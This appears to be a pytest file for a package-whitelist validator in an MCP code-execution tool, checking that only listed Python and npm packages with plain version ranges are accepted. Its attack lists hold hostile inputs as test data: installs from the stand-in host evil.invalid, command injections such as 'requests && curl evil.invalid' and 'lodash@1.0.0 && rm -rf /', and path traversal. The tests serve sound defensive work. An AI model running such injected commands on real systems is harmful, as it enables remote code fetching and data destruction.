"""Requirement validation: names and version ranges only; everything else is refused, naming the entry."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mcp_code_mode.errors import PackageError
from mcp_code_mode.packages import Whitelist, validate_npm, validate_python

WHITELIST = Whitelist.load()


def test_the_default_whitelist_has_the_common_data_web_and_parsing_packages() -> None:
    for name in ("requests", "httpx", "numpy", "pandas", "beautifulsoup4", "lxml", "pyyaml", "python-dateutil"):
        assert name in WHITELIST.python
    for name in ("axios", "lodash", "date-fns", "zod", "cheerio"):
        assert name in WHITELIST.javascript
    listing = WHITELIST.listing("all")
    assert {"name": "beautifulsoup4", "imports": ["bs4"]} in listing["python"]
    assert listing["typescript"] == listing["javascript"]
    assert set(WHITELIST.listing("python")) == {"python"}


def test_names_and_version_specifiers_are_normalized() -> None:
    result = validate_python(
        ["Requests>=2.30", "numpy", "Python_Dateutil == 2.9.0", "PyYAML", "pandas >= 2, < 3"], WHITELIST
    )
    assert result == ["numpy", "pandas<3,>=2", "python-dateutil==2.9.0", "pyyaml", "requests>=2.30"]
    assert WHITELIST.imports_for(["beautifulsoup4", "pyyaml", "requests>=2"]) == ("bs4", "requests", "yaml")
    assert validate_npm(["Axios", "lodash@^4.17.21", "date-fns@>=2 <4", "zod@3.x || 4.x"], WHITELIST) == [
        "axios",
        "date-fns@>=2 <4",
        "lodash@^4.17.21",
        "zod@3.x || 4.x",
    ]


PYTHON_ATTACKS = [
    "--index-url=https://evil.invalid/simple",
    "--extra-index-url https://evil.invalid",
    "-e .",
    "-r requirements.txt",
    "requests @ https://evil.invalid/requests.whl",
    "git+https://evil.invalid/requests.git",
    "requests @ git+https://evil.invalid/r.git",
    "./requests",
    "/tmp/requests-2.0.tar.gz",
    "..\\requests",
    "file:///tmp/requests.whl",
    "requests; python_version >= '3'",
    "requests ; os_name == 'posix' and platform_release == '$(id)'",
    "requests[socks]",
    "requests\n--index-url https://evil.invalid",
    "requests\t==2.0",
    "requests==2.0 #comment",
    "requests && curl evil.invalid",
    "requests`id`",
    "numpy numpy",
    "",
    "   ",
    "x" * 500,
    "not-on-the-list",
    "requests-oauthlib",
]


@pytest.mark.parametrize("entry", PYTHON_ATTACKS)
def test_malicious_or_malformed_python_requirements_are_refused_naming_the_entry(entry: str) -> None:
    with pytest.raises(PackageError) as info:
        validate_python(["numpy", entry], WHITELIST)
    message = str(info.value)
    assert (repr(entry.strip()) in message) or "packages[1]" in message


NPM_ATTACKS = [
    "axios@latest",
    "axios@next",
    "axios@file:../axios",
    "axios@git+https://evil.invalid/a.git",
    "axios@https://evil.invalid/a.tgz",
    "github:evil/axios",
    "../axios",
    "/tmp/axios",
    "--registry=https://evil.invalid",
    "lodash@1.0.0 && rm -rf /",
    "@evil/axios",
    "not-on-the-list",
    "",
]


@pytest.mark.parametrize("entry", NPM_ATTACKS)
def test_malicious_or_malformed_npm_requirements_are_refused(entry: str) -> None:
    with pytest.raises(PackageError):
        validate_npm(["axios", entry], WHITELIST)


def test_duplicates_wrong_types_and_too_many_entries_are_refused() -> None:
    with pytest.raises(PackageError, match="listed twice"):
        validate_python(["numpy", "NumPy>=1"], WHITELIST)
    with pytest.raises(PackageError, match="must be a string"):
        validate_python(["numpy", 3], WHITELIST)
    with pytest.raises(PackageError, match="must be a list"):
        validate_python("numpy", WHITELIST)
    with pytest.raises(PackageError, match="at most"):
        validate_python(["numpy"] * 100, WHITELIST)


def test_a_custom_whitelist_file_replaces_the_defaults(tmp_path: Path) -> None:
    path = tmp_path / "allowed.json"
    path.write_text(json.dumps({"python": {"six": ["six"]}, "javascript": {"left-pad": "1"}}), encoding="utf-8")
    custom = Whitelist.load(path)
    assert validate_python(["six"], custom) == ["six"]
    with pytest.raises(PackageError, match="not in the allowed packages"):
        validate_python(["numpy"], custom)
    path.write_text("{not json", encoding="utf-8")
    with pytest.raises(PackageError, match="invalid JSON"):
        Whitelist.load(path)
